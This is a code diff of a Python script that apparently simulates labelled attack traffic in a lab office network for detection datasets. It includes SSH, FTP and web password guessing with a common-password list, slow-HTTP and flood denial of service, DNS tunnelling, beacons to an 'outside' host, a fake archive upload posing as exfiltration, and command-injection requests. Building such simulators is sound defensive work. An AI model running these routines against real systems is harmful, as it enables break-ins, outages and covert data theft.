@@ -12,9 +12,9 @@ import base64
 import csv
 import os
 import random
+import re
 import selectors
 import socket
-import ssl
 import subprocess
 import sys
 import threading
@@ -23,16 +23,17 @@ import urllib.parse
 from collections.abc import Callable
 from pathlib import Path
 
-from clients import AGENTS, SSH
+from clients import AGENTS, CURL, SSH, cookie_value, intranet_page
 from services import ACCOUNTS, TUNNEL_ZONE, WORDS
 
 COLUMNS = ("time", "protocol", "source", "source_port", "destination", "destination_port", "kind", "tempo")
 TCP_LISTENER = 8443
-# Debian's client asks for low delay from its first packet on, and so does whoever connects in its place.
-TYPE_OF_SERVICE_OF_SSH = 0x10
-# An answer is over when nothing has come for so long.
-ANSWER_PAUSE_S = 0.3
-PASSWORDS = ("123456", "password", "admin", "qwerty", "letmein", "welcome1", "Sommer2026", "office", "changeme")
+# Linux's range of ports for connections.
+FIRST_PORT, LAST_PORT = 32_768, 60_999
+PASSWORDS = (
+    "123456", "password", "admin", "qwerty", "letmein", "welcome1", "Sommer2026", "office", "changeme", "Passw0rd!2026",
+    "trustno1-office", "correcthorse", "Welcome-123456", "iloveyou_12", "dragon&tiger", "football.2025",
+)  # fmt: skip
 PORTS = (
     7, 9, 13, 20, 21, 22, 23, 25, 37, 53, 69, 79, 80, 81, 88, 110, 111, 113, 119, 123, 135, 137, 139, 143, 161, 179,
     389, 443, 445, 465, 512, 513, 514, 515, 548, 554, 587, 631, 636, 873, 902, 989, 990, 993, 995, 1080, 1433, 1521,
@@ -52,11 +53,12 @@ INJECTIONS = (
 class Actor:
     """What an abnormal kind has: chance, targets, and a place to write the truth."""
 
-    def __init__(self, kind: str, tempo: str, host: str, truth: str, addresses: dict[str, str], names: str, seed: int):
-        self.kind, self.tempo, self.host, self.truth = kind, tempo, host, truth
-        self.addresses, self.names = addresses, names.split()
-        self.rng = random.Random(f"{seed} {kind} {tempo}")
-        self.file = open(truth, "a", newline="")  # noqa: SIM115 # for as long as the program runs
+    def __init__(self, options: argparse.Namespace):
+        self.kind, self.tempo, self.host = options.kind, options.tempo, options.host
+        self.addresses = dict(pair.split("=") for pair in options.address)
+        self.names = Path(options.names).read_text().split()
+        self.rng = random.Random(f"{options.seed} {self.kind} {self.tempo} {self.host}")
+        self.file = open(options.truth, "a", newline="")  # noqa: SIM115 # for as long as the program runs
         self.table = csv.writer(self.file)
         self.lock = threading.Lock()
 
@@ -65,23 +67,21 @@ class Actor:
         """Whether the tempo is the quick one."""
         return self.tempo == "quick"
 
-    def note(self, began: float, connection: socket.socket, peer: tuple[str, int]) -> None:
-        """Write down a flow; the port is known as soon as the connection is asked for."""
-        address, port = connection.getsockname()
-        protocol = "tcp" if connection.type == socket.SOCK_STREAM else "udp"
+    def note(self, began: float, protocol: str, port: int, peer: tuple[str, int]) -> None:
+        """Write down a flow."""
         with self.lock:
-            self.table.writerow([f"{began:.6f}", protocol, address, port, *peer, self.kind, self.tempo])
+            own = self.addresses[self.host]
+            self.table.writerow([f"{began:.6f}", protocol, own, port, *peer, self.kind, self.tempo])
             self.file.flush()
 
-    def connect(self, host: str, port: int, type_of_service: int = 0) -> socket.socket | None:
+    def connect(self, host: str, port: int) -> socket.socket | None:
         """Return a connection, None if it is refused; either way it is a flow."""
         connection = socket.socket()
-        connection.setsockopt(socket.IPPROTO_IP, socket.IP_TOS, type_of_service)
         # Not bound before: the kernel gives other ports to bind than to connect, odd ones, and they would tell.
         connection.setblocking(False)
         began = time.time()
         connection.connect_ex((self.addresses[host], port))
-        self.note(began, connection, (self.addresses[host], port))
+        self.note(began, "tcp", connection.getsockname()[1], (self.addresses[host], port))
         selector = selectors.DefaultSelector()
         selector.register(connection, selectors.EVENT_WRITE)
         answered = selector.select(timeout=5)
@@ -92,31 +92,21 @@ class Actor:
         connection.settimeout(20)
         return connection
 
-    def ask(self, host: str, port: int, message: bytes, context: ssl.SSLContext | None = None) -> None:
-        """Send a message, take the whole answer, hang up: leaving some of it unread would end in a reset."""
-        connection = self.connect(host, port)
-        if connection is None:
-            return
-        talking = connection
-        try:
-            if context:
-                talking = context.wrap_socket(connection)
-            talking.sendall(message)
-            while talking.recv(65536):
-                talking.settimeout(ANSWER_PAUSE_S)
-        except OSError:  # no more is coming, or hung up on
-            pass
-        talking.close()
+    def curl(self, host: str, name: str, scheme: str, path: str, options: list[str], stdin: bytes = b"") -> None:
+        """Let curl make a request, from a port that is known before; curl makes most of the normal ones, too."""
+        # As the kernel chooses ports for connections: even ones.
+        port = 2 * self.rng.randrange(FIRST_PORT // 2, LAST_PORT // 2)
+        served = 443 if scheme == "https" else 80
+        address = self.addresses[host]
+        command = [*CURL, "--local-port", str(port), "--resolve", f"{name}:{served}:{address}", *options]
+        self.note(time.time(), "tcp", port, (address, served))
+        subprocess.run(
+            [*command, f"{scheme}://{name}/{path}"], input=stdin, capture_output=True, timeout=40, check=False
+        )
 
-    def agent(self) -> str:
-        """Return the browser that this traffic pretends to come from."""
-        return self.rng.choice(AGENTS[:2])
-
-
-def request(actor: Actor, method: str, host: str, path: str, extra: str = "", body: bytes = b"") -> bytes:
-    """Return an HTTP request in the order of headers that curl has."""
-    head = f"{method} {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {actor.agent()}\r\nAccept: */*\r\n{extra}"
-    return (head + (f"Content-Length: {len(body)}\r\n" if body else "") + "\r\n").encode() + body
+    def agent(self) -> list[str]:
+        """Return the options by which curl calls itself one of the office's browsers."""
+        return ["-A", self.rng.choice(AGENTS[:2])]
 
 
 def port_scan(actor: Actor) -> None:
@@ -129,20 +119,39 @@ def port_scan(actor: Actor) -> None:
 
 
 def ssh_guessing(actor: Actor) -> None:
-    """Try a password with OpenSSH's client; `pass_connection` makes the connection for it, to know its port."""
+    """Try a password with OpenSSH's own client; the kernel tells from which port."""
     name = actor.rng.choice([*ACCOUNTS, "root", "admin", "test", "backup"])
-    through = [sys.executable, __file__, "pass", actor.tempo, actor.truth, actor.addresses["files"]]
-    options = [*SSH, "-o", "NumberOfPasswordPrompts=1", "-o", f"ProxyCommand={' '.join(through)}"]
-    command = ["sshpass", "-p", actor.rng.choice(PASSWORDS), "ssh", *options, "-o", "ProxyUseFdpass=yes"]
-    subprocess.run([*command, f"{name}@files", "id"], capture_output=True, timeout=30, check=False)
+    peer = (actor.addresses["files"], 22)
+    command = ["sshpass", "-p", actor.rng.choice(PASSWORDS), "ssh", *SSH, "-o", "NumberOfPasswordPrompts=1"]
+    began = time.time()
+    client = subprocess.Popen(
+        [*command, f"{name}@{peer[0]}", "id"], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
+        stderr=subprocess.DEVNULL,
+    )  # fmt: skip
+    port = None
+    while port is None and client.poll() is None:
+        time.sleep(0.003)
+        port = port_of_child(client.pid, peer)
+    if port is not None:
+        actor.note(began, "tcp", port, peer)
+    client.wait(timeout=40)
 
 
-def pass_connection(actor: Actor) -> None:
-    """Connect to the SSH server and hand the connection to the client that is asking for it."""
-    connection = actor.connect("files", 22, TYPE_OF_SERVICE_OF_SSH)
-    if connection is not None:
-        connection.setblocking(True)
-        socket.send_fds(socket.socket(fileno=os.dup(1)), [b"\0"], [connection.fileno()])
+def port_of_child(parent: int, peer: tuple[str, int]) -> int | None:
+    """Return the port from which a child of a process is connected to a peer, None if it is not yet."""
+    inodes = set()
+    try:
+        for child in Path(f"/proc/{parent}/task/{parent}/children").read_text().split():
+            for descriptor in Path(f"/proc/{child}/fd").iterdir():
+                inodes.update(re.findall(r"socket:\[(\d+)\]", os.readlink(descriptor)))
+    except OSError:  # ended meanwhile
+        return None
+    remote = f"{int.from_bytes(socket.inet_aton(peer[0]), 'little'):08X}:{peer[1]:04X}"
+    for line in Path("/proc/net/tcp").read_text().splitlines()[1:]:
+        fields = line.split()
+        if fields[2] == remote and fields[9] in inodes:
+            return int(fields[1].partition(":")[2], 16)
+    return None
 
 
 def ftp_guessing(actor: Actor) -> None:
@@ -164,10 +173,9 @@ def ftp_guessing(actor: Actor) -> None:
 
 def web_guessing(actor: Actor) -> None:
     """Try a password in the login form."""
-    form = {"user": actor.rng.choice([*ACCOUNTS, "admin"]), "password": actor.rng.choice(PASSWORDS)}
-    body = urllib.parse.urlencode(form).encode()
-    kind = "Content-Type: application/x-www-form-urlencoded\r\n"
-    actor.ask("intranet", 80, request(actor, "POST", "intranet.office.example", "/login", kind, body))
+    name = actor.rng.choice([*ACCOUNTS, "admin"])
+    form = ["--data-urlencode", f"user={name}", "--data-urlencode", f"password={actor.rng.choice(PASSWORDS)}"]
+    actor.curl("intranet", "intranet.office.example", "http", "login", [*actor.agent(), *form])
 
 
 def slow_http(actor: Actor) -> None:
@@ -175,9 +183,11 @@ def slow_http(actor: Actor) -> None:
     connection = actor.connect("intranet", 80)
     if connection is None:
         return
-    path = f"/f{actor.rng.randrange(40)}.html"
+    path = "/" + intranet_page(actor.rng)
     try:
-        connection.sendall(request(actor, "GET", "intranet.office.example", path)[:-2])
+        agent = actor.rng.choice(AGENTS[:2])
+        head = f"GET {path} HTTP/1.1\r\nHost: intranet.office.example\r\nUser-Agent: {agent}\r\nAccept: */*\r\n"
+        connection.sendall(head.encode())
         for _ in range(10):
             time.sleep(actor.rng.uniform(1, 2) if actor.quick else actor.rng.uniform(3, 6))
             connection.sendall(f"X-{actor.rng.choice(WORDS)}: {actor.rng.randrange(10_000)}\r\n".encode())
@@ -188,8 +198,8 @@ def slow_http(actor: Actor) -> None:
 
 def http_flood(actor: Actor) -> None:
     """Ask for a page that no cache has."""
-    path = f"/f{actor.rng.randrange(40)}.html?{actor.rng.randbytes(4).hex()}={actor.rng.randrange(10**6)}"
-    actor.ask("intranet", 80, request(actor, "GET", "intranet.office.example", path))
+    path = f"f{actor.rng.randrange(40)}.html?{actor.rng.choice('abcxyz')}={actor.rng.randrange(10**6)}"
+    actor.curl("intranet", "intranet.office.example", "http", path, actor.agent())
 
 
 def dns_tunnel(actor: Actor) -> None:
@@ -203,53 +213,59 @@ def dns_tunnel(actor: Actor) -> None:
         connection.settimeout(5)
         peer = (actor.addresses["mail"], 53)
         connection.connect(peer)
-        actor.note(time.time(), connection, peer)
+        actor.note(time.time(), "udp", connection.getsockname()[1], peer)
         connection.send(header + question + bytes.fromhex("00100001"))
         connection.recv(4096)
 
 
-def check_in(actor: Actor) -> bytes:
-    """Return a beacon over HTTP: who I am in a cookie, please tell me what to do."""
-    name = actor.names[len(actor.kind) * 7 % len(actor.names)]  # each kind has its own
-    identity = base64.b64encode(actor.rng.randbytes(24)).decode()
-    return request(actor, "GET", name, f"/api/{actor.rng.choice(WORDS)}/next", f"Cookie: session={identity}\r\n")
+def check_in(actor: Actor, scheme: str) -> None:
+    """Tell the far end who is there, in a cookie, and ask what to do; each kind has its own far end."""
+    name = actor.names[len(actor.kind) * 7 % len(actor.names)]
+    cookie = ["-b", f"session={cookie_value(actor.rng)}"]
+    actor.curl("outside", name, scheme, f"api/{actor.rng.choice(WORDS)}/next", [*actor.agent(), *cookie])
 
 
 def beacon_http(actor: Actor) -> None:
     """Check in over plain HTTP."""
-    actor.ask("outside", 80, check_in(actor))
+    check_in(actor, "http")
 
 
 def beacon_tls(actor: Actor) -> None:
     """Check in over TLS, to a certificate that nobody checks."""
-    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
-    context.check_hostname = False
-    context.verify_mode = ssl.CERT_NONE
-    actor.ask("outside", 443, check_in(actor), context)
+    check_in(actor, "https")
 
 
 def beacon_tcp(actor: Actor) -> None:
     """Check in with a few bytes of a protocol of its own."""
     body = actor.rng.randbytes(actor.rng.randrange(24, 90))
-    actor.ask("outside", TCP_LISTENER, len(body).to_bytes(4, "little") + body)
+    connection = actor.connect("outside", TCP_LISTENER)
+    if connection is None:
+        return
+    try:
+        connection.sendall(len(body).to_bytes(4, "little") + body)
+        while connection.recv(1000):  # unread bytes would end the connection in a reset
+            pass
+    except OSError:  # the far end has gone
+        pass
+    connection.close()
 
 
 def exfiltration(actor: Actor) -> None:
     """Upload what looks like an archive to a server that people upload to, too."""
     n_bytes = actor.rng.randrange(80_000, 500_000) if actor.quick else actor.rng.randrange(2_000, 20_000)
-    name = actor.rng.choice(actor.names)
-    path = f"/upload/{actor.rng.choice(WORDS)}"
-    actor.ask("outside", 80, request(actor, "PUT", name, path, body=b"PK\x03\x04" + actor.rng.randbytes(n_bytes)))
+    archive = b"PK\x03\x04" + actor.rng.randbytes(n_bytes)
+    path = f"upload/{actor.rng.choice(WORDS)}"
+    actor.curl("outside", actor.rng.choice(actor.names), "http", path, ["-T", "-"], archive)
 
 
 def injection(actor: Actor) -> None:
-    """Put something into a search that the server might take for a command."""
+    """Put something into a request that the server might take for a command."""
     text = urllib.parse.quote_plus(actor.rng.choice(INJECTIONS), safe="")
     if actor.rng.random() < 0.5:
-        actor.ask("outside", 80, request(actor, "GET", actor.rng.choice(actor.names), f"/search?q={text}"))
+        actor.curl("outside", actor.rng.choice(actor.names), "http", f"search?q={text}", actor.agent())
     else:
-        path = f"/f{actor.rng.randrange(40)}.html?id={text}"
-        actor.ask("intranet", 80, request(actor, "GET", "intranet.office.example", path))
+        path = f"f{actor.rng.randrange(40)}.html?id={text}"
+        actor.curl("intranet", "intranet.office.example", "http", path, actor.agent())
 
 
 def listen(address: str) -> None:
@@ -273,8 +289,8 @@ KINDS: dict[str, Callable[[Actor], None]] = {
         beacon_tcp, exfiltration, injection,
     )
 }  # fmt: skip
-# Mean seconds from one flow to the next. Beacons keep their time within 30 %, all others are as random as chance.
-SLOW_PAUSE_S = 3.0
+# Mean seconds from one flow of a host to the next. Beacons keep their time within 30 %, others are as random as chance.
+SLOW_PAUSE_S = 15.0
 QUICK_PAUSE_S = {
     "port_scan": 0.03, "http_flood": 0.01, "slow_http": 0.05, "beacon_http": 1.0, "beacon_tls": 1.0, "beacon_tcp": 1.0,
 }  # fmt: skip
@@ -306,16 +322,11 @@ def main() -> None:
     parser.add_argument("--address", action="append", default=[], metavar="HOST=ADDRESS")
     options = parser.parse_args()
     pause = QUICK_PAUSE_S.get(options.kind, 0.15) if options.tempo == "quick" else SLOW_PAUSE_S
-    addresses = dict(pair.split("=") for pair in options.address)
-    names = Path(options.names).read_text()
-    actor = Actor(options.kind, options.tempo, options.host, options.truth, addresses, names, options.seed)
-    perform(actor, options.n, pause)
+    perform(Actor(options), options.n, pause)
 
 
 if __name__ == "__main__":
     if sys.argv[1] == "listen":
         listen(sys.argv[2])
-    elif sys.argv[1] == "pass":
-        pass_connection(Actor("ssh_guessing", sys.argv[2], "", sys.argv[3], {"files": sys.argv[4]}, "", 0))
     else:
         main()
